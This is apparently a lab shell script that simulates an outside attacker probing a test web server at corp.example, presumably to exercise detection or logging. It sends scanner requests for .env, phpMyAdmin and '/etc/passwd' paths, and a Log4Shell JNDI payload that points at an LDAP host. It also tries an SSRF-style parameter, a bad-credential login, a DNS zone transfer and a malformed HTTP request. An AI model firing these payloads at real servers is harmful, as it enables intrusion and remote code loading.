# Somebody outside tries the web server of corp.example. Run outside; $1 is the
# IPv4 and $2 the IPv6 address to come from.
c() { curl -q -s -o /dev/null --max-time 8 --cacert /srv/tls/ca.pem "$@" || true; }
for path in .env wp-login.php admin/ phpmyadmin/index.php 'cgi-bin/test.cgi?x=/etc/passwd' robots.txt; do
    c --interface "$1" -A 'Mozilla/5.0 zgrab/0.x' "http://198.51.100.80/$path"
done
c --interface "$2" -A 'python-requests/2.31.0' 'http://[2001:db8:2::80]/admin/'
c --interface "$2" -A 'python-requests/2.31.0' -u ops:wrong http://www.corp.example/admin/
c --interface "$1" -A '${jndi:ldap://203.0.113.66:1389/a}' -H 'X-Forwarded-For: 203.0.113.66' http://198.51.100.80/
c --interface "$1" -A 'Mozilla/5.0' -e 'http://www.brightparcel.example/?ref=1' -H 'X-Forwarded-For: 192.0.2.77, 203.0.113.5' 'http://www.corp.example/api/ping?to=http%3A%2F%2Fpanel.gray-heron.test%2Fgate.php'
c --interface "$1" -A 'Mozilla/5.0' 'http://www.corp.example/api/ping?mail=billing%40oldlace.example&cve=CVE-2026-10001'
c --interface "$1" -A 'Mozilla/5.0' -e 'http://notgray-heron.lookalikes.test/' 'http://www.corp.example/api/ping?h=f0b870803f8f6a2c6f1959c79cf8671c13703f670aa2c6e33fa72315869e8226'
c --interface "$1" -A 'Mozilla/5.0' -H 'Host: panel.gray-heron.test' http://198.51.100.80/api/ping
c --interface "$1" -k -A 'Mozilla/5.0' https://198.51.100.80/api/ping
dig +noall -b "$1" @198.51.100.53 corp.example AXFR >/dev/null 2>&1 || true
printf 'GET /\001 HTTP/1.0\r\n\r\n' | socat -t 2 - "TCP4:198.51.100.80:80,bind=$1" >/dev/null || true
